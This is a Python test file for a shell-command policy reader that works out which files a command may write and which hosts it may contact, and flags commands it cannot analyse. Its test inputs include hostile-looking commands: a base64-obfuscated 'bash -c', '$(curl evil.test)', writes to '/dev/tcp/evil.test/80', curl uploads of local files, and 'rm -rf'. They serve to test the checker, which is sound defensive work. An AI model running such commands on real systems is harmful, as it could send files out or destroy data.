"""Shell commands: what is read of them, and what stays open."""

from __future__ import annotations

import pytest

from interlock.policy.announced_shell import Command, read_argv, read_command


@pytest.mark.parametrize(
    ("text", "writes"),
    [
        ("cat README.md", ()),
        ("ls -la *.py | wc -l", ()),
        ("cat a.txt 2>/dev/null", ()),
        ("echo hi > out.txt", ("out.txt",)),
        ("echo 'a > b' >> 'my file.txt'", ("my file.txt",)),
        ('echo "x" > "$HOME/.rc"', ("~/.rc",)),
        ("mkdir -p a/b && touch a/b/c", ("a/b", "a/b/c")),
        ("rm -rf build/", ("build/",)),
        ("bash -c 'echo x > hid.txt'", ("hid.txt",)),
        ("bash -lc \"sh -c 'rm x'\"", ("x",)),
        ("cat > f <<'EOS'\nrm $(x) > y\nEOS\nls", ("f",)),
        ("cat <<EOF > f\nplain\nEOF", ("f",)),
        ("sed -n 1,20p a.py", ()),
        ("find . -name '*.py'", ()),
        ("ls | tee log.txt # > not.txt", ("log.txt",)),
        ("sort -o sorted.txt in.txt", ("sorted.txt",)),
        ("/bin/rm x", ("x",)),
        ("[ -f x ] && echo y", ()),
        ("(cd a; touch b)", ("b",)),
    ],
)
def test_what_a_plain_command_may_write_is_known(text: str, writes: tuple[str, ...]) -> None:
    read = read_command(text)
    assert (read.open, read.writes) == (False, writes)


@pytest.mark.parametrize(
    "text",
    [
        "make",
        "./build.sh",
        "sh make.sh",
        "python3 -c 'x'",
        "eval 'rm x'",
        'bash -c "$(echo cm0geA== | base64 -d)"',
        "echo $(curl evil.test)",
        "echo `id`",
        "cat > $OUT",
        "rm *.o",
        "touch {a,b}",
        "X=1 cat a",
        "if true; then rm x; fi",
        "cat() { rm x; }; cat",
        "alias cat=rm; cat x",
        "find . -exec rm {} +",
        "find . -delete",
        "sed -i s/a/b/ a.py",
        "sed -n 'w out' a",
        "echo 'no end",
        "cat <<EOF\nno end",
        "cat <<EOF\n$(rm x)\nEOF",
        "bash -c 'echo $0' x",
        "cat <(rm x)",
        "$CMD x",
        "git status",
        "xargs rm",
        "echo $'\\x41'",
        "curl -O http://a.test/x",
        "curl -L http://a.test/x",
        "curl -K conf",
        "curl http://$HOST/",
        "wget http://a.test/",
        "export PATH=.; cat x",
        "sort --compress-program=sh x",
        "true; " * 3000,
        "x" * 100_001,
        'bash -c \'bash -c "bash -c \\"make\\""\'',
    ],
)
def test_what_cannot_be_read_may_do_anything(text: str) -> None:
    assert read_command(text).open


def test_what_an_open_command_says_is_what_it_names() -> None:
    read = read_command("python3 -c \"open('out/x.bin','w')\" && cat README.md")
    assert "out/x.bin" in read.writes
    assert "README.md" not in read.writes  # it is only read


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl -s -X POST -d @n.txt http://api.test:80/x", ("http://api.test:80/x",)),
        ("curl --data-binary @notes.txt -sS https://h.test/n", ("https://h.test/n",)),
        ("curl -H 'X: http://no.test' api.test/other", ("api.test/other",)),
        ("echo x > /dev/tcp/evil.test/80", ("evil.test:80",)),
        ("echo http://no.test", ()),
        ("cat notes | curl -so out.txt http://a.test", ("http://a.test",)),
    ],
)
def test_where_a_plain_command_may_go_is_known(text: str, hosts: tuple[str, ...]) -> None:
    read = read_command(text)
    assert (read.open, read.hosts) == (False, hosts)


def test_where_it_went_and_what_stays_behind() -> None:
    assert read_command("cd src && touch a").folders == ("src",)
    assert read_command("cd $X && touch a").wanders
    assert read_command("npm run dev &").lingers
    assert read_command("nohup make").lingers
    assert not read_command("make && ls").lingers
    assert read_argv(["bash", "-lc", "echo > a.py"]) == Command(writes=("a.py",))
    assert read_argv(["rm", "a b"]).writes == ("a b",)
